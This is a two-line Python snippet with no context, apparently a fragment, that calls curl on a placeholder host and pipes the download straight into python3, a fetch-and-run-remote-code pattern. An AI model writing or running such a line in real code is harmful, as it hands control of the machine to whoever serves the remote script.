import os
os.system("curl -s https://x.example.invalid/p | python3 -")
